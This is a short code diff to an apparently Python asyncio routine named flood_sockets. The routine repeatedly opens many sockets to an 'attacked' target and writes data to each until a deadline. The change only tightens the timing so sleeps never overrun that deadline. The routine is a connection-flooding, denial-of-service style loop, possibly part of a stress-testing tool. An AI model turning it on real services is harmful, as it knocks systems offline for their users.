@@ -165,10 +165,13 @@ async def flood_sockets(attacked: Attacked, until: float, sent: bytes, count: in
     """Open so many sockets and send this at each, again when it was closed; how often."""
     times = 0
 
+    def left() -> float:
+        return max(0.0, until - time.monotonic())
+
     async def flood(delay: float) -> None:
         nonlocal times
         over = asyncio.Event()
-        await asyncio.sleep(delay)
+        await asyncio.sleep(min(delay, left()))
         while time.monotonic() < until:
             over.clear()
             with contextlib.suppress(Refused, OSError):
@@ -182,10 +185,10 @@ async def flood_sockets(attacked: Attacked, until: float, sent: bytes, count: in
                 socket.transport.write(sent)
                 times += 1
                 with contextlib.suppress(TimeoutError):
-                    async with asyncio.timeout(max(0.0, until - time.monotonic())):
+                    async with asyncio.timeout(left()):
                         await over.wait()
                 socket.drop()
-            await asyncio.sleep(count / OPENED)
+            await asyncio.sleep(min(count / OPENED, left()))
 
     await asyncio.gather(*(flood(number / OPENED) for number in range(count)))
     return times
